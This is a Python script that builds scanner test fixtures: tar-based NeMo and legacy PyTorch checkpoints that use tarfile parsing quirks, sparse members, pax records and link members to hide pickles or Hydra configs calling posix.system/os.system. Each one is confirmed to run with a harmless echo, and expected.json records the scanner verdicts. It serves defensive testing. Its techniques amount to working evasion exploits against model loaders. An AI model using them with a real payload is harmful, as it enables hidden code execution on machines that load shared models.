#!/usr/bin/python3
"""Writes samples/tar-differentials/: tar archives that Python's tarfile (NeMo's extractall, then
torch.load of model_weights.ckpt; or torch.load's legacy tar path, which extracts `storages`) splits
into other members than a lenient GNU-tar-like reader does, each hiding a pickle that calls
posix.system, and expected.json. Found by an attack review (session 29); every sample is loaded
once by the real loader in a child process to prove that the payload runs (`echo`, harmless).

Benign members, pax and GNU long-name records are written by tarfile itself (TarInfo.tobuf and its
record writers); headers are hand-built only where tarfile cannot write them (a size field that
starts with NUL, a v7 directory with data, GNU sparse headers, a long pax length field).

- typeM.nemo, typeM.nemo.tgz, typeM-legacy.pt: the payload in a GNU multi-volume (`M`) member,
  which tarfile extracts as a regular file.
- nulsize.nemo, nulsize-legacy.pt: a size field "\\0" + octal digits: tarfile's nti cuts at the NUL
  (size 0) and reads the "data" as headers of a hidden member.
- dirslash.nemo, dirslash-legacy.pt: a type-NUL member "d/" with a size: tarfile makes it a
  directory and does not skip its data, where the hidden member sits.
- doublepax.nemo: two pax headers before one member; tarfile's first one wins (size 0).
- paxplus/paxspace/paxunderscore.nemo: pax size "+0", " 0", "0_0" (Python's int() reads 0).
- solarisX.nemo: a Solaris `X` extended header (size 0), pax for tarfile.
- paxlen.nemo: a pax record with a 17-digit zero-padded length.
- globalpax.nemo: a global pax size: tarfile gives the next member that size but skips only the
  header's.
- storslash-legacy.pt: a later member with pax path "storages/" (tarfile strips the slash).
- doublelong-legacy.pt: two GNU long names before one member; tarfile's first one wins.
- sparse.nemo, sparse-legacy.pt: old GNU sparse members whose holes split the pickle.
- sparse01.nemo, sparse10.nemo: pax GNU sparse 0.1 (map in a record) and 1.0 (map in the data).

Link members (a name a loader opens that reads another member's bytes once extracted):
- symlink-config.nemo, hardlink-config.nemo: `model_config.yaml` is a symbolic / hard link to
  `notes.txt`, a config whose `_target_` calls os.system (NeMo's restore instantiates it).
- hardlink-rewritten.nemo: `model_config.yaml` is a hard link to a benign `x`; a later member `x`
  rewrites the shared inode with the payload config.
- symlink-dir-config.nemo: `model_config.yaml` links to `d/c.txt` through a symlinked directory.
- hardlink-legacy.pt: a legacy torch tar whose `storages` is a hard link to `blob` (torch's
  `extract('storages')` resolves it inside the archive), the payload in the storage views pickle.
- selffd-legacy.pt: `storages` is a symlink to /proc/self/fd/3 (the checkpoint itself, whose first
  header name is a protocol-0 pickle): an escaping link.
- benign-gnutar-links.nemo: GNU tar of a NeMo layout with a symlink and a hard link to the
  weights (suspicious for the links, nothing more).

Benign archives from GNU tar (gnu, oldgnu and posix formats, `-S`): a NeMo layout with a sparse
.npy (holes rebuilt as tarfile extracts them), a long member name and a directory; they load with
the NeMo loader and must stay clean.

Run from the repository root with /usr/bin/python3 (Debian python3-torch, python3-numpy) and GNU tar.
"""
import io
import json
import os
import pickle
import struct
import subprocess
import sys
import tarfile

ROOT = os.path.join("samples", "tar-differentials")
PAYLOAD = "echo modelgate-sample"
MARK = b"modelgate-sample"
EXPECTED = {}
posix = __import__("posix")
ENC = "utf-8"


class Evil:
    def __reduce__(self):
        return (posix.system, (PAYLOAD,))


EVIL = pickle.dumps(Evil(), protocol=2)
CONFIG = b"name: demo\nsample_rate: 16000\n"
SYS_INFO = pickle.dumps({"protocol_version": 1001, "little_endian": True,
                         "type_sizes": {"short": 2, "int": 4, "long": 4}}, protocol=2)


def pad(b):
    return b + b"\0" * (-len(b) % 512)


def member(name, data, type=tarfile.REGTYPE, fmt=tarfile.GNU_FORMAT):
    """A member as tarfile writes it (header by TarInfo.tobuf, data padded)."""
    info = tarfile.TarInfo(name)
    info.size = len(data)
    info.type = type
    info.mtime = 1700000000
    return info.tobuf(fmt, ENC, "surrogateescape") + pad(data)


def pax(records, type=tarfile.XHDTYPE):
    """A pax extended (or global) header record as tarfile writes it."""
    return tarfile.TarInfo._create_pax_generic_header(records, type, ENC)


def long_name(name):
    """A GNU long-name record as tarfile writes it."""
    return tarfile.TarInfo._create_gnu_long_header(name, tarfile.GNUTYPE_LONGNAME, ENC, "surrogateescape")


def header(name=b"", size=b"%011o\0" % 0, type=b"0", magic=b"ustar\x0000", extra=None):
    """A hand-built ustar header (for what tarfile cannot write); `size` is the raw field."""
    if isinstance(size, int):
        size = b"%011o\0" % size
    h = bytearray(512)
    h[0:len(name)] = name
    h[100:108] = b"0000644\0"
    h[108:116] = b"0000000\0"
    h[116:124] = b"0000000\0"
    h[124:124 + len(size)] = size
    h[136:148] = b"00000000000\0"
    h[156:157] = type
    h[257:257 + len(magic)] = magic
    for off, val in (extra or {}).items():
        h[off:off + len(val)] = val
    h[148:156] = b" " * 8
    h[148:156] = b"%06o\0 " % sum(h)
    return bytes(h)


END = b"\0" * 10240


def nemo(*parts):
    return member("model_config.yaml", CONFIG) + b"".join(parts) + END


def legacy(*parts, storages=True):
    body = member("sys_info", SYS_INFO) + member("pickle", pickle.dumps({"a": 1}, protocol=2))
    if storages:
        body += member("storages", pickle.dumps(0, protocol=2) + pickle.dumps([], protocol=2))
    body += member("tensors", pickle.dumps(0, protocol=2))
    return body + b"".join(parts) + END


def hidden(name):
    """A complete member as tarfile writes it: what a reader that lands here extracts."""
    return member(name, EVIL)


def sparse_old(name, tail):
    """An old GNU sparse (`S`) member: the pickle's opening, a hole, the rest."""
    k = 1 + len(EVIL)
    head = b"\x80\x03B" + struct.pack("<I", k)  # BINBYTES of the hole and the separator
    rest = b"0" + EVIL + tail                   # POP, then the payload
    stored = head + rest
    real = 7 + k + len(rest)
    n12 = lambda n: b"%011o\0" % n
    extra = {386: n12(0), 398: n12(7), 410: n12(7 + k), 422: n12(len(rest)), 483: n12(real)}
    return header(name, len(stored), b"S", b"ustar  \0", extra) + pad(stored)


def sparse_pax(name, version, tail):
    k = 1 + len(EVIL)
    head = b"\x80\x03B" + struct.pack("<I", k)
    rest = b"0" + EVIL + tail
    real = 7 + k + len(rest)
    if version == "0.1":
        recs = {"GNU.sparse.major": "0", "GNU.sparse.minor": "1", "GNU.sparse.name": name,
                "GNU.sparse.realsize": str(real), "GNU.sparse.numblocks": "2",
                "GNU.sparse.map": f"0,7,{7 + k},{len(rest)}"}
        data = head + rest
    else:
        recs = {"GNU.sparse.major": "1", "GNU.sparse.minor": "0", "GNU.sparse.name": name,
                "GNU.sparse.realsize": str(real)}
        data = pad(b"2\n0\n7\n%d\n%d\n" % (7 + k, len(rest))) + head + rest
    return pax(recs) + member("GNUSparseFile.0/" + name, data)


HYDRA_CFG = b"target:\n  _target_: os.system\n  command: " + PAYLOAD.encode() + b"\n"


def link(name, target, type=tarfile.SYMTYPE, fmt=tarfile.GNU_FORMAT):
    """A link member as tarfile writes it."""
    info = tarfile.TarInfo(name)
    info.type = type
    info.linkname = target
    info.mtime = 1700000000
    return info.tobuf(fmt, ENC, "surrogateescape")


def load(rel, loader, benign=False):
    path = os.path.join(ROOT, rel)
    code = {
        # NeMo's SaveRestoreConnector: extractall, then torch.load of the weights
        "nemo": ("import sys,tarfile,tempfile,os,torch\n"
                 "d=tempfile.mkdtemp()\n"
                 "try:\n t=tarfile.open(sys.argv[1],'r:')\n"
                 "except tarfile.ReadError:\n t=tarfile.open(sys.argv[1],'r:gz')\n"
                 "t.extractall(path=d); t.close()\n"
                 "torch.load(os.path.join(d,'model_weights.ckpt'))\n"),
        "torch": "import torch,sys; torch.load(sys.argv[1])",
        # NeMo's restore_from: extractall, OmegaConf.load of model_config.yaml, then hydra's
        # instantiate of `_target_` nodes (emulated with importlib as hydra resolves `_target_`)
        "nemo-config": ("import sys,tarfile,tempfile,os,importlib\n"
                        "from omegaconf import OmegaConf\n"
                        "d=tempfile.mkdtemp()\n"
                        "with tarfile.open(sys.argv[1],'r:') as t: t.extractall(path=d)\n"
                        "node=OmegaConf.to_container(OmegaConf.load(os.path.join(d,'model_config.yaml')))['target']\n"
                        "mod,_,fn=node.pop('_target_').rpartition('.')\n"
                        "getattr(importlib.import_module(mod),fn)(**node)\n"),
    }[loader]
    r = subprocess.run([sys.executable, "-c", code, path], capture_output=True, timeout=120)
    if benign:
        if r.returncode != 0 or MARK in r.stdout + r.stderr:
            raise SystemExit(f"{rel}: the benign archive does not load cleanly: {r.stderr[-600:]!r}")
        return
    if MARK not in r.stdout + r.stderr:
        raise SystemExit(f"{rel}: the payload did not run under {loader}: {r.stderr[-600:]!r}")


def write(rel, data, loader, rules=("pickle/dangerous-global", "tar/reader-disagreement"), callee="posix.system"):
    path = os.path.join(ROOT, rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data)
    load(rel, loader)
    EXPECTED[f"tar-differentials/{rel}"] = {"verdict": "malicious", "rules": list(rules), "callee": callee}


def gz(data):
    buf = io.BytesIO()
    with tarfile.open(fileobj=io.BytesIO(data)) as src, tarfile.open(fileobj=buf, mode="w:gz") as dst:
        for info in src.getmembers():
            dst.addfile(info, src.extractfile(info) if info.size else None)
    return buf.getvalue()


ONLY_PICKLE = ("pickle/dangerous-global",)
WEIGHTS = member("model_weights.ckpt", pickle.dumps({}, protocol=2))

# 1. unknown types are regular files for tarfile
write("typeM.nemo", nemo(member("model_weights.ckpt", EVIL, type=b"M")), "nemo", ONLY_PICKLE)
write("typeM.nemo.tgz", gz(nemo(member("model_weights.ckpt", EVIL, type=b"M"))), "nemo", ONLY_PICKLE)
write("typeM-legacy.pt", legacy(member("storages", EVIL, type=b"M"), storages=False), "torch", ONLY_PICKLE)

# 2. a size field starting with NUL: tarfile reads 0
X = hidden("model_weights.ckpt")
write("nulsize.nemo", nemo(WEIGHTS, header(b"pad.bin", b"\0%010o\0" % len(X)) + X), "nemo")
X = hidden("storages")
write("nulsize-legacy.pt", legacy(header(b"pad.bin", b"\0%010o\0" % len(X)) + X), "torch")

# 3. a v7 directory ("\0" type, trailing slash) with a size: tarfile does not skip the data
X = hidden("model_weights.ckpt")
write("dirslash.nemo", nemo(WEIGHTS, header(b"d/", len(X), b"\0") + X), "nemo")
X = hidden("storages")
write("dirslash-legacy.pt", legacy(header(b"d/", len(X), b"\0") + X), "torch")

# 4. pax records tarfile reads otherwise
X = hidden("model_weights.ckpt")
write("doublepax.nemo", nemo(WEIGHTS, pax({"size": "0"}), pax({"size": str(len(X))}), header(b"pad.bin", len(X)) + X), "nemo")
for tag, value in (("paxplus", "+0"), ("paxspace", " 0"), ("paxunderscore", "0_0")):
    write(f"{tag}.nemo", nemo(WEIGHTS, pax({"size": value}), header(b"pad.bin", len(X)) + X), "nemo")
write("solarisX.nemo", nemo(WEIGHTS, pax({"size": "0"}, type=b"X"), header(b"pad.bin", len(X)) + X), "nemo")
record = b"00000000000000025 size=0\n"
write("paxlen.nemo", nemo(WEIGHTS, header(b"PaxHeader", len(record), b"x") + pad(record), header(b"pad.bin", len(X)) + X), "nemo")
write("globalpax.nemo", nemo(WEIGHTS, pax({"size": str(len(X))}, type=tarfile.XGLTYPE), header(b"pad.bin", 0) + X), "nemo")

# 5. names tarfile normalises or takes from the first record
views = pickle.dumps(1, protocol=2) + b"\x80\x02(X\x01\x00\x00\x000X\x03\x00\x00\x00cpuctorch\nFloatStorage\nq\x00t." \
    + struct.pack("<q", 4) + b"\0" * 16
write("storslash-legacy.pt", legacy(pax({"path": "storages/"}), member("s2", views + EVIL)), "torch",
      ("pickle/dangerous-global", "tar/duplicate-name"))
write("doublelong-legacy.pt", legacy(long_name("storages"), long_name("blob.bin"), member("x", views + EVIL)), "torch")

# 6. sparse members, rebuilt with their holes
write("sparse.nemo", nemo(sparse_old(b"model_weights.ckpt", b"0N.")), "nemo", ONLY_PICKLE)
write("sparse-legacy.pt", legacy(sparse_old(b"storages", b"K\0.]."), storages=False), "torch", ONLY_PICKLE)
write("sparse01.nemo", nemo(sparse_pax("model_weights.ckpt", "0.1", b"0N.")), "nemo", ONLY_PICKLE)
write("sparse10.nemo", nemo(sparse_pax("model_weights.ckpt", "1.0", b"0N.")), "nemo", ONLY_PICKLE)

# 8. link members: the name a loader opens reads another member
HYDRA = ("yaml/hydra-target", "container/link-member")
write("symlink-config.nemo", member("notes.txt", HYDRA_CFG) + link("model_config.yaml", "notes.txt") + WEIGHTS + END,
      "nemo-config", HYDRA, "os.system")
write("hardlink-config.nemo", member("notes.txt", HYDRA_CFG) + link("model_config.yaml", "notes.txt", tarfile.LNKTYPE)
      + WEIGHTS + END, "nemo-config", HYDRA, "os.system")
write("hardlink-rewritten.nemo", member("x", CONFIG) + link("model_config.yaml", "x", tarfile.LNKTYPE)
      + member("x", HYDRA_CFG) + WEIGHTS + END, "nemo-config", HYDRA + ("tar/link-ambiguous",), "os.system")
write("symlink-dir-config.nemo", member("e/c.txt", HYDRA_CFG) + link("d", "e") + link("model_config.yaml", "d/c.txt")
      + WEIGHTS + END, "nemo-config", HYDRA, "os.system")
blob = (pickle.dumps(1, protocol=2) + b"\x80\x02(X\x01\x00\x00\x000X\x03\x00\x00\x00cpuctorch\nFloatStorage\nq\x00t."
        + struct.pack("<q", 4) + b"\0" * 16 + EVIL)
write("hardlink-legacy.pt", legacy(storages=False)[:-len(END)] + member("blob", blob)
      + link("storages", "blob", tarfile.LNKTYPE) + END, "torch", ("pickle/dangerous-global", "container/link-member"))
P0 = "cposix\nsystem\n(S'" + PAYLOAD + "'\ntR."
write("selffd-legacy.pt", member(P0, b"notes", fmt=tarfile.USTAR_FORMAT) + legacy(storages=False)[:-len(END)]
      + link("storages", "/proc/self/fd/3", fmt=tarfile.USTAR_FORMAT) + END, "torch",
      ("pickle/dangerous-global", "container/path-traversal"))


def gnu_tar_links():
    import tempfile
    import torch
    with tempfile.TemporaryDirectory() as tmp:
        src = os.path.join(tmp, "src")
        os.makedirs(src)
        torch.save({"w": torch.zeros(3)}, os.path.join(src, "model_weights.ckpt"))
        with open(os.path.join(src, "model_config.yaml"), "wb") as f:
            f.write(CONFIG)
        os.link(os.path.join(src, "model_weights.ckpt"), os.path.join(src, "weights_copy.ckpt"))
        os.symlink("model_weights.ckpt", os.path.join(src, "latest.ckpt"))
        rel = "benign-gnutar-links.nemo"
        subprocess.run(["tar", "-C", src, "--format=gnu", "--sort=name", "--mtime=@1700000000",
                        "--owner=0", "--group=0", "--numeric-owner", "-cf", os.path.join(ROOT, rel), "."], check=True)
        load(rel, "nemo", benign=True)
        EXPECTED[f"tar-differentials/{rel}"] = {"verdict": "suspicious", "rules": ["container/link-member"],
                                                 "absentRules": ["tar/link-ambiguous", "container/path-traversal"]}


gnu_tar_links()


# 7. benign archives from GNU tar: sparse members (old GNU and pax 1.0), long names, directories
def gnu_tar_benign():
    import tempfile
    import numpy as np
    import torch
    with tempfile.TemporaryDirectory() as tmp:
        src = os.path.join(tmp, "src")
        os.makedirs(os.path.join(src, "dir"))
        torch.save({"w": torch.zeros(3)}, os.path.join(src, "model_weights.ckpt"))
        with open(os.path.join(src, "model_config.yaml"), "wb") as f:
            f.write(CONFIG)
        with open(os.path.join(src, "dir", "n" * 150 + ".txt"), "w") as f:
            f.write("a long member name\n")
        npy = os.path.join(src, "dir", "zeros.npy")
        np.save(npy, np.zeros(3 * 1024 * 1024, dtype=np.uint8))
        # punch the zeros out: a file of holes after the .npy header
        with open(npy, "r+b") as f:
            head = f.read(128)
            f.truncate(0)
            f.seek(0)
            f.write(head)
            f.truncate(128 + 3 * 1024 * 1024)
        for fmt in ("gnu", "oldgnu", "posix"):
            rel = f"benign-gnutar-{fmt}.nemo"
            subprocess.run(["tar", "-C", src, "-S", f"--format={fmt}", "--sort=name", "--mtime=@1700000000",
                            "--owner=0", "--group=0", "--numeric-owner", "-cf", os.path.join(ROOT, rel), "."]
                           + (["--pax-option=delete=atime,delete=ctime"] if fmt == "posix" else []),
                           check=True)
            load(rel, "nemo", benign=True)
            EXPECTED[f"tar-differentials/{rel}"] = {"verdict": "clean"}


gnu_tar_benign()

with open(os.path.join(ROOT, "expected.json"), "w") as f:
    json.dump(EXPECTED, f, indent=1, sort_keys=True)
    f.write("\n")
print(f"{ROOT}: {len(EXPECTED)} samples", file=sys.stderr)
